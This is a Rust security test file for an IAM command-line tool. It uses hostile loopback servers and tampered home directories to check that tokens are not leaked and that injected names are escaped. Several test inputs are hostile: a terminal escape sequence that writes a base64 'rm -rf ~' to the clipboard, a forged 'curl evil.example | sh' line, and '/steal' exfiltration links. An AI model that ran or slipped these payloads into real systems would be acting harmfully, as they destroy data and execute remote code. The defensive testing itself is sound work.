//! What others send iamctl: names someone else in the account chose, and servers that are
//! not what they seem (a next-page link to another host, an endless answer, a proxy for the
//! outside world, a `*.localhost` name DNS may send anywhere, a body the trace cannot read).
//! Each peer is a real HTTP server on loopback (`fixtures::peer`), most of them relaying to
//! the emulator what they do not rewrite.

use crate::fixtures::peer::{Answer, Peer};
use crate::fixtures::*;

/// A login's API key through `--apikey @FILE`, so that it can be looked for afterwards.
fn key_file(env: &TestEnv) -> std::path::PathBuf {
    let path = env
        .home()
        .join("..")
        .join(format!("key-{}", std::process::id()));
    std::fs::write(&path, env.apikey()).unwrap_or_else(|e| panic!("{e}"));
    path
}

fn login_through<'a>(env: &'a TestEnv, api: &str) -> Cmd<'a> {
    env.iamctl(["login", "-a", api, "--no-region"])
        .arg("--apikey")
        .arg(format!("@{}", key_file(env).display()))
}

#[test]
fn a_next_page_link_never_takes_the_token_to_another_host() {
    let env = TestEnv::new();
    let elsewhere = Peer::collector("127.0.0.1", 0);
    for link in [
        // Glued onto the base URL as text, this sent the request, token and all, to
        // `elsewhere` as userinfo@host.
        format!("@127.0.0.1:{}/steal", elsewhere.port()),
        format!("{}/steal", elsewhere.url()),
    ] {
        let upstream = env.url();
        let hostile = Peer::start("127.0.0.1", 0, move |r| {
            if r.target.starts_with("/coe/v2/accounts") {
                let link = link.clone();
                Answer::RelayRewritten(
                    upstream.clone(),
                    Box::new(move |v| v["next_url"] = json!(link)),
                )
            } else {
                Answer::Relay(upstream.clone())
            }
        });
        let out = login_through(&env, &hostile.url()).run();
        assert_ne!(out.code, Some(0), "{}{}", out.stdout, out.stderr);
        assert!(
            elsewhere.seen().is_empty(),
            "the next-page link took a request elsewhere: {:?}",
            elsewhere.seen()
        );
    }
    // A link to another origin is refused, and says so.
    let upstream = env.url();
    let other = elsewhere.url();
    let hostile = Peer::start("127.0.0.1", 0, move |r| {
        if r.target.starts_with("/coe/v2/accounts") {
            let other = other.clone();
            Answer::RelayRewritten(
                upstream.clone(),
                Box::new(move |v| v["next_url"] = json!(format!("{other}/coe/v2/accounts"))),
            )
        } else {
            Answer::Relay(upstream.clone())
        }
    });
    login_through(&env, &hostile.url())
        .run()
        .code(1)
        .stderr_contains("leads to another origin");
    assert!(elsewhere.seen().is_empty());
}

#[test]
fn an_endless_answer_is_cut_off_with_a_clear_error() {
    let env = TestEnv::new();
    let upstream = env.url();
    let hostile = Peer::start("127.0.0.1", 0, move |r| {
        if r.target.starts_with("/identity/token") {
            Answer::Endless
        } else {
            Answer::Relay(upstream.clone())
        }
    });
    let (out, took) =
        login_through(&env, &hostile.url()).run_within(std::time::Duration::from_secs(60));
    out.code(1)
        .stderr_contains("larger than 8 MiB, more than any IAM answer");
    assert!(took < std::time::Duration::from_secs(30), "took {took:?}");
    // The metadata service's answers are capped the same way.
    let metadata = Peer::start("127.0.0.1", 0, |_| Answer::Endless);
    env.iamctl(["login", "-a", &env.url(), "--no-region", "--vpc-cri"])
        .env("IBMCLOUD_CR_VPC_URL", metadata.url())
        .run()
        .code(1)
        .stderr_contains("larger than 8 MiB");
}

#[test]
fn loopback_traffic_never_goes_through_a_proxy() {
    let env = TestEnv::new();
    let proxy = Peer::collector("127.0.0.1", 0);
    let mut cmd = login_through(&env, &env.url());
    for var in [
        "HTTP_PROXY",
        "HTTPS_PROXY",
        "ALL_PROXY",
        "http_proxy",
        "https_proxy",
        "all_proxy",
    ] {
        cmd = cmd.env(var, proxy.url());
    }
    cmd.run().success();
    assert!(
        proxy.seen().is_empty(),
        "the proxy was handed loopback traffic: {:?}",
        proxy.seen().iter().map(|s| s.text()).collect::<Vec<_>>()
    );
}

#[test]
fn a_localhost_name_connects_to_loopback_whatever_the_resolver_says() {
    let env = TestEnv::new();
    let port = env.url().rsplit(':').next().unwrap_or_default().to_string();
    // Another loopback address, the same port: where /etc/hosts (or DNS) would send it.
    let decoy = Peer::collector("127.0.0.2", port.parse().unwrap_or_else(|e| panic!("{e}")));
    let key = key_file(&env);
    let script = format!(
        "printf '127.0.0.2 iam.localhost\\n' > \"$HOME/hosts\" && mount --bind \"$HOME/hosts\" /etc/hosts && \
         \"$IAMCTL\" login -a http://iam.localhost:{port} --apikey @{} --no-region",
        key.display()
    );
    env.in_private_mounts(
        "to give iam.localhost another address in /etc/hosts",
        &script,
    )
    .env("IAMCTL", BIN)
    .run()
    .success();
    assert!(
        decoy.seen().is_empty(),
        "the resolver's address got the login: {:?}",
        decoy.seen().iter().map(|s| s.text()).collect::<Vec<_>>()
    );
}

#[test]
fn an_iam_endpoint_other_than_the_api_endpoints_own_is_said() {
    let env = TestEnv::new();
    let other = iam_emulator::spawn(iam_emulator::Config::default())
        .unwrap_or_else(|e| panic!("emulator: {e}"));
    let other_url = other.url().to_string();
    // No account: the accounts API of one emulator does not know the other's tokens.
    let out = login_through(&env, &env.url())
        .arg("--no-account")
        .env("IAM_ENDPOINT", &other_url)
        .run()
        .success();
    // (Raw: the checks that normalise output replace this emulator's URL.)
    assert!(
        out.stdout
            .contains(&format!("IAM endpoint: {other_url} (IAM_ENDPOINT)\n")),
        "{}",
        out.stdout
    );
    assert!(
        out.stderr.contains(&format!(
            "WARNING: IAM_ENDPOINT sends this login's credentials to {other_url}, not to the IAM of {}",
            env.url()
        )),
        "{}",
        out.stderr
    );
    // Remembered by the session: a login without -a still goes there, and says so.
    let out = env
        .iamctl(["login", "--no-region", "--no-account", "--apikey", "-"])
        .stdin(env.apikey())
        .run()
        .success();
    assert!(
        out.stdout.contains(&format!(
            "IAM endpoint: {other_url} (kept from this session's earlier login; -a starts over)\n"
        )),
        "{}",
        out.stdout
    );
    // With -a alone, the API endpoint's own IAM, and nothing to say.
    let out = login_through(&env, &env.url()).run().success();
    assert!(!out.stdout.contains("IAM endpoint:"), "{}", out.stdout);
}

#[test]
fn a_body_the_trace_cannot_read_is_hidden_whole() {
    let env = TestEnv::new();
    let refresh_tokens: std::sync::Arc<std::sync::Mutex<Vec<String>>> = Default::default();
    let inner = hostile_url_rewriting_marker(&env, &refresh_tokens);
    let trace = env.home().join("hostile.trace");
    let _ = login_through(&env, &inner.url())
        .env("IAMCTL_TRACE", &trace)
        .run();
    let text = std::fs::read_to_string(&trace).unwrap_or_default();
    let tokens = refresh_tokens.lock().map(|t| t.clone()).unwrap_or_default();
    assert!(
        !tokens.is_empty(),
        "no refresh token was issued through the peer"
    );
    for rt in tokens {
        assert!(
            !text.contains(&rt),
            "the refresh token reached the trace:\n{text}"
        );
    }
    assert!(text.contains("bytes hidden"), "{text}");
}

/// A peer in front of the emulator whose token answers carry `1e400`, a number serde_json
/// refuses, beside the refresh token; each refresh token it passes on is recorded.
fn hostile_url_rewriting_marker(
    env: &TestEnv,
    refresh_tokens: &std::sync::Arc<std::sync::Mutex<Vec<String>>>,
) -> Peer {
    let upstream = env.url();
    let seen = refresh_tokens.clone();
    Peer::start("127.0.0.1", 0, move |r| {
        if !r.target.starts_with("/identity/token") {
            return Answer::Relay(upstream.clone());
        }
        let client = reqwest::blocking::Client::new();
        let resp = client
            .post(format!("{upstream}/identity/token"))
            .header("Content-Type", "application/x-www-form-urlencoded")
            .header("Accept", "application/json")
            .body(r.body.clone())
            .send();
        let text = resp.and_then(|r| r.text()).unwrap_or_default();
        let v: Value = serde_json::from_str(&text).unwrap_or(Value::Null);
        if let (Some(rt), Ok(mut s)) = (v["refresh_token"].as_str(), seen.lock()) {
            s.push(rt.to_string());
        }
        let body = match text.rfind('}') {
            Some(end) => format!("{},\"expiration_huge\":1e400}}", &text[..end]),
            None => text,
        };
        Answer::Json(200, body)
    })
}

#[test]
fn names_others_chose_cannot_drive_the_terminal_or_forge_a_line() {
    let env = TestEnv::new();
    env.login();
    // A window title, a clipboard write, a forged tip and a forged workflow command.
    let name = "evil\u{1b}]0;owned\u{7}\u{1b}]52;c;cm0gLXJmIH4=\u{7}\nTip: curl evil.example | sh\n::set-env name=X::1";
    env.iamctl(["service-id-create", name, "-d", "desc\u{1b}[2J"])
        .run()
        .success();
    for args in [
        vec!["service-ids"],
        vec!["service-id", name],
        vec!["service-ids", "--uuid"],
    ] {
        let out = env.iamctl(args.clone()).run().success();
        let text = format!("{}{}", out.out(), out.err());
        assert!(
            !text.contains('\u{1b}') && !text.contains('\u{7}'),
            "{args:?}:\n{text}"
        );
        assert!(
            !text
                .lines()
                .any(|l| l.starts_with("Tip:") || l.starts_with("::")),
            "{args:?} forged a line:\n{text}"
        );
    }
    // JSON stays JSON: the name as it is, escaped as JSON escapes it.
    let v = env
        .iamctl(["service-ids", "--output", "json"])
        .run()
        .success()
        .json();
    assert!(
        v.as_array()
            .is_some_and(|a| a.iter().any(|s| s["name"] == name)),
        "{v}"
    );
    // An error quoting a name (here: one that is not there) escapes it too.
    let out = env
        .iamctl(["service-id", "gone\u{1b}[2J\nTip: forged"])
        .run()
        .code(1);
    assert!(!out.err().contains('\u{1b}'), "{}", out.err());
    assert!(
        !out.err().lines().any(|l| l == "Tip: forged"),
        "{}",
        out.err()
    );
}

// ---- a home others can touch -------------------------------------------------------------

/// What `oauth-tokens` says in a home that `spoil` changed after a login; the session file is
/// checked to be as it was afterwards.
fn after_spoiling(env: &TestEnv, spoil: &str) -> Out {
    let before = std::fs::read(env.session_file()).ok();
    let status = std::process::Command::new("sh")
        .arg("-c")
        .arg(spoil)
        .env("H", env.home())
        .status()
        .unwrap_or_else(|e| panic!("sh: {e}"));
    assert!(status.success(), "{spoil}");
    let (out, took) = env
        .iamctl(["oauth-tokens"])
        .run_within(std::time::Duration::from_secs(20));
    assert!(
        took < std::time::Duration::from_secs(10),
        "took {took:?}: {spoil}"
    );
    if std::fs::symlink_metadata(env.session_file()).is_ok_and(|m| m.is_file()) {
        assert_eq!(std::fs::read(env.session_file()).ok(), before, "{spoil}");
    }
    out
}

#[test]
fn a_home_or_file_others_can_write_is_refused_with_the_fix() {
    for (spoil, says, fix) in [
        (
            "chmod 0777 \"$H\"",
            "other users may write it (mode 0777)",
            "chmod go-w",
        ),
        (
            "chmod 0757 \"$H/sessions\"",
            "other users may write it (mode 0757)",
            "chmod go-w",
        ),
        (
            "chmod 0666 \"$H/sessions/default.json\"",
            "other users may write it (mode 0666)",
            "chmod go-w",
        ),
        (
            "chown 65534 \"$H/sessions/default.json\"",
            "it belongs to another user",
            "chown $(id -un)",
        ),
    ] {
        let env = TestEnv::new();
        env.login();
        after_spoiling(&env, spoil)
            .code(1)
            .stderr_contains(says)
            .stderr_contains(fix);
    }
}

#[test]
fn links_fifos_and_endless_files_in_the_home_are_refused_at_once() {
    for (spoil, says) in [
        // A FIFO where the session file was: reading it would block for ever.
        (
            "rm \"$H/sessions/default.json\" && mkfifo -m 600 \"$H/sessions/default.json\"",
            "it is not a regular file",
        ),
        // A link: iamctl would read (or create) a file elsewhere.
        (
            "mv \"$H/sessions/default.json\" \"$H/elsewhere.json\" && ln -s \"$H/elsewhere.json\" \"$H/sessions/default.json\"",
            "symbolic link",
        ),
        ("ln -s /dev/zero \"$H/current\"", "symbolic link"),
    ] {
        let env = TestEnv::new();
        env.login();
        after_spoiling(&env, spoil).code(1).stderr_contains(says);
    }
    // config.json pointing at an endless device is refused, not read into memory.
    let env = TestEnv::new();
    env.login();
    std::os::unix::fs::symlink("/dev/zero", env.home().join("config.json"))
        .unwrap_or_else(|e| panic!("{e}"));
    let (out, took) = env
        .iamctl(["config", "secret-store"])
        .run_within(std::time::Duration::from_secs(20));
    assert!(took < std::time::Duration::from_secs(10), "took {took:?}");
    out.code(1).stderr_contains("symbolic link");
    // A planted lock file link makes no file at its target.
    let env = TestEnv::new();
    env.login();
    let target = env.home().join("planted");
    std::fs::remove_file(env.home().join("sessions/default.lock")).ok();
    std::os::unix::fs::symlink(&target, env.home().join("sessions/default.lock"))
        .unwrap_or_else(|e| panic!("{e}"));
    env.iamctl(["target", "-r", "eu-de"])
        .run()
        .code(1)
        .stderr_contains("symbolic link");
    assert!(
        !target.exists(),
        "the lock's link created {}",
        target.display()
    );
}

#[test]
fn a_credential_helper_that_cannot_answer_fails_without_a_panic() {
    let env = TestEnv::new();
    env.login();
    let full = std::fs::OpenOptions::new()
        .write(true)
        .open("/dev/full")
        .unwrap_or_else(|e| panic!("/dev/full: {e}"));
    for (args, input) in [
        (vec!["credential", "kubectl"], ""),
        (vec!["credential", "docker", "get"], "us.icr.io\n"),
        (vec!["credential", "docker", "list"], ""),
    ] {
        let mut cmd = env.command(BIN);
        let full = full.try_clone().unwrap_or_else(|e| panic!("{e}"));
        cmd.args(&args)
            .stdin(std::process::Stdio::piped())
            .stdout(full)
            .stderr(std::process::Stdio::piped());
        let mut child = cmd.spawn().unwrap_or_else(|e| panic!("{e}"));
        if let Some(mut stdin) = child.stdin.take() {
            use std::io::Write;
            let _ = stdin.write_all(input.as_bytes());
        }
        let out = child.wait_with_output().unwrap_or_else(|e| panic!("{e}"));
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{args:?}: {err}");
        assert!(!err.contains("panicked"), "{args:?}: {err}");
        assert!(
            err.contains("Could not write the credential to stdout: No space left on device"),
            "{args:?}: {err}"
        );
    }
}

#[test]
fn exec_gives_the_command_a_token_and_not_the_api_key() {
    let env = TestEnv::new();
    env.login();
    let out = env
        .iamctl(["exec", "--", "env"])
        .env("IBMCLOUD_API_KEY", "long-lived-1")
        .env("IC_API_KEY", "long-lived-2")
        .env("BLUEMIX_API_KEY", "long-lived-3")
        .run()
        .success();
    assert!(!out.stdout.contains("long-lived"), "{}", out.stdout);
    assert!(
        out.stdout.contains("IC_IAM_TOKEN=Bearer "),
        "{}",
        out.stdout
    );
    // Asked for, one is kept.
    let out = env
        .iamctl(["exec", "--keep-env", "IC_API_KEY", "--", "env"])
        .env("IBMCLOUD_API_KEY", "long-lived-1")
        .env("IC_API_KEY", "long-lived-2")
        .run()
        .success();
    assert!(
        out.stdout.contains("IC_API_KEY=long-lived-2\n"),
        "{}",
        out.stdout
    );
    assert!(!out.stdout.contains("long-lived-1"), "{}", out.stdout);
}
